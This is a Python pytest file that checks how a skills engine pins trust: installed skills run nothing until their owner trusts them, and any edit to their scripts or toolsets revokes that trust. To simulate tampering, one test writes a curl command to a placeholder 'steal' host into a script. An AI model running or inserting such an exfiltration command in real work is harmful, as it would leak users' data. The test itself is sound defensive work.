"""Trust is explicit and pinned, on a real worker with the real `skills` command and a
real stdio MCP server: an installed skill whose SKILL.md declares a `sh -c` toolset and a per-minute plan
starts nothing, at a sync, a fire or a chat turn, until its owner runs `skills trust`; then it runs; any edit
of its toolsets or scripts untrusts it again, and the refusal names `skills trust NAME`.

"Nothing ran" is a knock: the toolset's command connects to a loopback port the test listens on before
it starts the server (it runs in the sandbox, which shares the network but none of the test's files).
"""

from __future__ import annotations

import asyncio
import json
import os
import re
import shlex
import shutil
import socketserver
import subprocess
import sys
import threading
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from temporalio.client import ActivityFailureError, Client
from temporalio.exceptions import ApplicationError

from client.files import sync_files
from config.settings import Settings
from skills.skillmd.trust import TrustInput
from tests.conftest import ROOT, Engine
from tests.fakes.llm_server import ScriptedLLM, say, scripted_llm_fixture
from tests.skills.skillmd.skill_files import skill_text

SKILLS = Path(sys.executable).with_name("skills")
SERVER = ROOT / "tests" / "mcp_servers" / "changing_server.py"


class Knocks:
    """A loopback listener that keeps what each connection said: the toolset's command knocks with a word."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        outer = self

        class Handler(socketserver.StreamRequestHandler):
            def handle(self) -> None:
                outer.heard.append(self.rfile.read(64).decode(errors="replace"))

        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def command(self, word: str) -> str:
        knock = (f"import socket; s = socket.create_connection(('127.0.0.1', {self.port})); "
                 f"s.sendall(b'{word}'); s.close()")
        return f'python -c "{knock}"; exec python {SERVER.name}'

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def knocks() -> Iterator[Knocks]:
    listener = Knocks()
    yield listener
    listener.close()
EVERY_MINUTE = {"schedule": "* * * * *"}

llm = scripted_llm_fixture(api_key="sk-trust-key")


def source_skill(root: Path, name: str, knocks: Knocks, *, keywords: list[str] | None = None) -> Path:
    """A skill folder as a download brings it: a toolset `sh -c` that knocks and then serves MCP,
    a declared script, and (unless it is a chat playbook, with ``keywords``) a per-minute Direct plan."""
    folder = root / name
    (folder / "scripts").mkdir(parents=True)
    (folder / "scripts" / "hello.sh").write_text("echo hello\n")
    metadata: dict[str, Any] = {"notify_on_completion": False}
    if keywords is None:
        metadata |= {"trigger_config": EVERY_MINUTE,
                     "execution_plan": [{"id": "use", "toolName": "x_add_tool_quietly",
                                         "parameters": {"name": f"from-{name}"}}]}
    frontmatter: dict[str, Any] = {
        "name": name, "description": f"The {name} skill.", "metadata": metadata,
        "toolsets": {"x": {"command": "sh", "args": ["-c", knocks.command("ran")]}},
        "scripts": ["hello.sh"],
    }
    if keywords is not None:
        frontmatter["triggers"] = {"keywords": keywords}
    (folder / "SKILL.md").write_text(skill_text(frontmatter, "Use the x tools."))
    shutil.copyfile(SERVER, folder / SERVER.name)
    return folder


def skills_command(engine: Engine, *argv: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """`skills ARGV` in a fresh process (stdin not a terminal), on this engine's folders and task queue
    (and ``env``, more of its settings)."""
    folders = engine.settings.skill_folders()
    env = {**{k: v for k, v in os.environ.items() if not k.startswith("SKILLS_")},
           **{f"SKILLS_{kind.upper()}_SKILLS_DIR": str(path) for kind, path in folders.items()}, **(env or {})}
    address = engine.skills.client.service_client.config.target_host
    return subprocess.run([str(SKILLS), "--address", address, "--task-queue", engine.settings.task_queue, *argv],
                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL)


async def skills(engine: Engine, *argv: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return await asyncio.to_thread(skills_command, engine, *argv, env=env)


def ran(knocks: Knocks) -> int:
    return len(knocks.heard)


async def test_an_installed_skill_runs_nothing_until_trusted_and_again_nothing_once_changed(
        engine: Engine, client: Client, tmp_path: Path, knocks: Knocks) -> None:
    source = source_skill(tmp_path / "download", "pinned", knocks)

    installed = await skills(engine, "install", str(source))
    assert installed.returncode == 0, installed.stderr
    # Every command and script it brings is listed, and it is installed untrusted (no terminal, no --trust).
    assert f"toolset x: {shlex.join(['sh', '-c', knocks.command('ran')])}" in installed.stdout
    assert "script scripts/hello.sh" in installed.stdout
    assert "pinned is installed untrusted" in installed.stdout and "`skills trust pinned`" in installed.stdout

    synced = await sync_files(engine.skills)
    assert [c.change.name for c in synced.created] == ["pinned"], synced
    skill = await engine.skills.get("pinned", "files")
    # Registered with its schedule paused until trusted, the pause saying how to trust it.
    assert skill.schedule_id is not None and not skill.enabled
    assert "`skills trust pinned`" in (skill.disabled_reason or "")

    # A run anyway (by hand): it fails at once, recorded, and its command never started.
    fired = await engine.skills.run("pinned", "files")
    assert not isinstance(fired, str) and fired.status == "error"
    assert "not trusted by its owner" in fired.summary and "run `skills trust pinned`" in fired.summary
    assert "toolset x: sh -c" in fired.summary
    assert ran(knocks) == 0
    await engine.skills.pause("pinned", "files")  # from here on, only the runs this test asks for
    assert {r.status for r in await _finished(engine)} == {"error"}  # every run so far was refused

    shown = await skills(engine, "show", "pinned")
    assert "untrusted: `skills trust pinned` lets it run" in shown.stdout, shown.stdout
    listed = await skills(engine, "list", "--files", "--json")
    [row] = [r for r in json.loads(listed.stdout)["skills"] if r["name"] == "pinned"]
    assert row["trust"].startswith("untrusted")
    catalog = await skills(engine, "catalog")
    assert "pinned: x  stdio  untrusted: not connected until `skills trust pinned`" in catalog.stdout, catalog.stdout

    trusted = await skills(engine, "trust", "pinned")
    assert trusted.returncode == 0, trusted.stderr
    assert "trusted pinned (sha256:" in trusted.stdout and "toolset x: sh -c" in trusted.stdout
    assert ran(knocks) == 0  # trusting runs nothing either

    run = await engine.skills.run("pinned", "files")
    assert run.status == "success", run.summary  # type: ignore[union-attr]
    assert [c.result for c in run.tool_calls] == ["added from-pinned"]  # type: ignore[union-attr]
    assert ran(knocks) == 1
    shown = await skills(engine, "show", "pinned", "--json")
    assert json.loads(shown.stdout)["trust"] == "trusted"

    # An edit of its script untrusts it: refused, naming the command that trusts it again.
    script = engine.settings.user_skills_dir / "pinned" / "scripts" / "hello.sh"
    script.write_text("echo hello; curl https://example.invalid/steal\n")
    refused = await engine.skills.run("pinned", "files")
    assert refused.status == "error"  # type: ignore[union-attr]
    assert "changed since its owner trusted them" in refused.summary  # type: ignore[union-attr]
    assert "run `skills trust pinned`" in refused.summary  # type: ignore[union-attr]
    assert ran(knocks) == 1
    shown = await skills(engine, "show", "pinned")
    assert "untrusted (changed since trusted): `skills trust pinned` lets it run" in shown.stdout

    assert (await skills(engine, "trust", "pinned")).returncode == 0
    assert (await engine.skills.run("pinned", "files")).status == "success"  # type: ignore[union-attr]

    # So does an edit of its toolsets (the SKILL.md's other fields may change freely).
    skill_md = engine.settings.user_skills_dir / "pinned" / "SKILL.md"
    skill_md.write_text(skill_md.read_text().replace("b'ran'", "b'changed'"))
    refused = await engine.skills.run("pinned", "files")
    assert refused.status == "error" and "run `skills trust pinned`" in refused.summary  # type: ignore[union-attr]
    assert "changed" not in knocks.heard

    untrusted = await skills(engine, "untrust", "pinned")
    assert untrusted.returncode == 0 and "untrusted pinned" in untrusted.stdout


async def _finished(engine: Engine) -> list[Any]:
    return [r for r in await engine.skills.runs("pinned", "files") if r.status != "running"]


async def test_install_with_trust_runs_and_a_dependency_is_pinned_too(engine: Engine, tmp_path: Path,
                                                                   knocks: Knocks) -> None:
    source = source_skill(tmp_path / "download", "helper", knocks, keywords=["helper"])
    installed = await skills(engine, "install", "--trust", str(source))
    assert installed.returncode == 0, installed.stdout + installed.stderr
    assert "trusted helper: its toolsets and scripts run" in installed.stdout

    # A skill without toolsets or scripts of its own brings the helper along: the helper's parts are pinned
    # like its own. (Its own plan fires by itself: that is its reach, which its owner trusts too.)
    user = engine.settings.user_skills_dir
    (user / "caller").mkdir()
    (user / "caller" / "SKILL.md").write_text(skill_text({
        "name": "caller", "description": "Calls on the helper.", "depends": ["helper"],
        "metadata": {"trigger_config": {"schedule": "0 3 1 1 *"}, "notify_on_completion": False,
                     "execution_plan": [{"id": "use", "toolName": "outbox_send_message",
                                         "parameters": {"message": "hi"}}]}}, "Call."))
    assert (await skills(engine, "trust", "caller")).returncode == 0
    synced = await sync_files(engine.skills)
    assert [c.change.name for c in synced.created] == ["caller"], synced
    assert (await engine.skills.run("caller", "files")).status == "success"  # type: ignore[union-attr]

    (user / "helper" / "scripts" / "hello.sh").write_text("echo changed\n")
    refused = await engine.skills.run("caller", "files")
    assert refused.status == "error", refused  # type: ignore[union-attr]
    assert "skill 'helper'" in refused.summary and "run `skills trust helper`" in refused.summary  # type: ignore[union-attr]
    shown = await skills(engine, "show", "caller")
    # Its own trust holds (the helper's changed, not it): the refusal is the helper's alone.
    assert re.search(r"^trust +trusted$", shown.stdout, re.M), shown.stdout


async def test_trust_is_recorded_only_by_the_trust_workflow(engine: Engine, client: Client, knocks: Knocks) -> None:
    """A holder of the namespace who starts the acting activity directly (as a client starts the read ones)
    trusts nothing."""
    source_skill(engine.settings.user_skills_dir, "pinned", knocks)
    with pytest.raises(ActivityFailureError) as failure:
        await client.execute_activity("trust_skill", TrustInput(name="pinned"), id="sneaky-trust",
                                      task_queue=engine.settings.task_queue,
                                      schedule_to_close_timeout=timedelta(seconds=30))
    cause = failure.value.cause
    # The worker's guard refuses it before its code runs: it acts, and no workflow of the engine asked.
    assert isinstance(cause, ApplicationError) and cause.type == "OutsideEngineError"
    assert "activity 'trust_skill' acts, and was started outside a workflow of this engine" in cause.message
    shown = await skills(engine, "show", "pinned", "--json")
    assert json.loads(shown.stdout)["trust"].startswith("untrusted")


async def test_a_chat_turn_goes_on_without_an_untrusted_skills_toolsets_and_says_so(
        client: Client, settings: Settings, llm: ScriptedLLM, knocks: Knocks) -> None:
    source_skill(settings.user_skills_dir, "toolsmith", knocks, keywords=["toolsmith"])
    llm.script("default", [say("Its tools are not trusted yet: run `skills trust toolsmith`."), say("Still not.")])
    engine = await Engine(settings.model_copy(update={
        "llm_base_url": llm.base_url, "llm_api_key": "sk-trust-key", "llm_model": "default",
        # The model calls tools itself here: `auto` would ask again, in structured mode, after a reply that
        # made no call to a message asking for a change, and this test is about what the first request offers.
        "llm_tools": "native", "scripts_enabled": True}), client).start()
    try:
        reply = await engine.skills.chat("toolsmith: add a tool called by-chat", session_id="trust")
        assert reply.ok and reply.matched == ["toolsmith"], reply
        [reason] = reply.unavailable
        assert "skill 'toolsmith'" in reason and "run `skills trust toolsmith`" in reason
        [asked] = llm.requests_for("default")[:1]
        # Its instructions still came; its tools and scripts did not, and the model was told why.
        assert "Use the x tools." in asked.messages[0]["content"]
        assert "The skill toolsmith is not trusted by its owner" in asked.messages[0]["content"]
        assert not any(name.startswith("x_") for name in asked.tool_names) and "run_script" not in asked.tool_names
        assert ran(knocks) == 0
        # `skills chat` shows the user why.
        chatted = await skills(engine, "chat", "toolsmith: again")
        assert chatted.returncode == 0, chatted.stderr
        assert "(not available this turn: skill 'toolsmith'" in chatted.stdout and "skills trust toolsmith" in \
            chatted.stdout
        assert ran(knocks) == 0
    finally:
        await engine.stop()
